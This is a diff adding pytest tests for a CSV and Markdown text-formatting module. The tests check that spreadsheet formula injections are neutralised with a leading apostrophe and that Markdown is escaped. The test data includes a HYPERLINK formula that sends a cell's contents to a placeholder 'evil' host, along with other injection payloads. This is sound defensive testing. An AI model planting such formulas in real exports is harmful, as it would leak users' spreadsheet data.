@@ -1,14 +1,29 @@
 """Numbers and tables as text."""
 
+import csv
+import io
 import json
 import math
 from types import SimpleNamespace
 
+import pandas as pd
 import pyarrow.parquet
 import pytest
 
 from analyser.common.estimates import Estimate, plus_minus
-from analyser.common.text import aligned, counted, json_text, percent, rating_text, shown_range
+from analyser.common.text import (
+    aligned,
+    code_span,
+    counted,
+    csv_cell,
+    csv_frame,
+    csv_text,
+    json_text,
+    markdown,
+    percent,
+    rating_text,
+    shown_range,
+)
 from analyser.results.rendering import FORMATS
 
 
@@ -68,3 +83,51 @@ def test_every_format_has_nothing_where_a_number_is_none(tmp_path):
     assert FORMATS["csv"](shown) == "unit,value\na,1.5\nb,\n"
     (tmp_path / "t.parquet").write_bytes(FORMATS["parquet"](shown))
     assert pyarrow.parquet.read_table(tmp_path / "t.parquet")["value"].to_pylist() == [1.5, None]
+
+
+RUN = [
+    '=HYPERLINK("http://evil/?"&A2)',
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1",
+    "\n=1",
+    "'=1",
+    "''@",
+    "--",
+    "\uff1d1",
+    "-1.5a",
+]
+NOT_RUN = ["Guard", "a=b", "it's", "'", "'x", "", "-", "-1.5", "+3", "-.5e-3", "-12%", " =1", -1.5, 3, None, True]
+
+
+@pytest.mark.parametrize("text", RUN)
+def test_text_that_a_spreadsheet_would_run_has_an_apostrophe(text):
+    assert csv_cell(text) == f"'{text}"
+    frame = pd.DataFrame({"name": ["Guard", text], "cause": pd.Categorical([text, "a"]), "value": [-1.5, 2]})
+    said = csv_frame(frame)
+    assert said["name"].tolist() == ["Guard", f"'{text}"]
+    assert said["cause"].tolist() == [f"'{text}", "a"]
+    assert said["value"].tolist() == [-1.5, 2]
+    assert frame["name"].tolist() == ["Guard", text]
+    (head, cells) = csv.reader(io.StringIO(csv_text([text], [[text]]), newline=""))
+    assert head == cells == [f"'{text}"]
+
+
+@pytest.mark.parametrize("cell", NOT_RUN)
+def test_numbers_and_other_text_stay_as_they_are(cell):
+    assert csv_cell(cell) == cell
+    assert type(csv_cell(cell)) is type(cell)
+
+
+@pytest.mark.parametrize("text", ["a", "`", "``", "a`b", "`a``b`", "x ``` y", "80 -> 75"])
+def test_a_code_span_ends_where_its_text_does(text):
+    span = code_span(text)
+    fence = "`" * (len(span) - len(span.lstrip("`")))
+    inside = span.removeprefix(fence).removesuffix(fence)
+    assert fence not in inside.replace("`" * (len(fence) + 1), "")
+    assert inside.strip() == text
+
+
+def test_no_text_is_markup_in_markdown():
+    assert markdown("a | b\n# c <b> `d` **e** [f](g) $h$") == (r"a \| b # c \<b\> \`d\` \*\*e\*\* \[f\](g) \$h\$")
